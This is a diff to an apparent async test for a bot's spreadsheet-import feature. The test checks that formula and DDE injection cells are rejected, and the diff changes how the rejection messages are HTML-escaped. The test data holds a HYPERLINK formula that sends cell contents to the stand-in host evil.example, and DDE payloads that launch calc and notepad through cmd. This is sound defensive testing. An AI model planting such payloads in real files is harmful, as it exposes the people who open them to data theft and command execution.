@@ -403,15 +403,16 @@ async def test_formulas_and_dde_payloads_are_refused_cell_by_cell(
     await harness.press(people.admin, f"adh:import-list:{cohort.id}")
     before = await stored(services)
     sent = await uploads.send(people.admin, workbook(formula_rows()), "тізім.xlsx")
-    # what the admin reads: the first 40 characters, HTML-escaped for parse_mode=HTML
-    clipped = html.escape('=HYPERLINK("http://evil.example/?d="&B2…')
+    # what the admin reads: the first 40 characters, HTML-escaped for parse_mode=HTML (by the
+    # i18n core: &, < and >; quotes stay as typed, as aiogram's html.quote)
+    clipped = html.escape('=HYPERLINK("http://evil.example/?d="&B2…', quote=False)
     assert texts(sent) == [
         "\n".join(
             [
                 title,
                 line.format(row=2, column="ФИО", value=clipped),
-                line.format(row=3, column="Школа", value=html.escape("=cmd|' /C calc'!A0")),
-                line.format(row=4, column="Должность", value=html.escape("+cmd|' /C notepad'!A0")),
+                line.format(row=3, column="Школа", value="=cmd|' /C calc'!A0"),
+                line.format(row=4, column="Должность", value="+cmd|' /C notepad'!A0"),
                 line.format(row=5, column="Телефон", value="@SUM(1+1)|x"),
                 line.format(row=6, column="ФИО", value="=SUM(B2:B3)"),
             ]
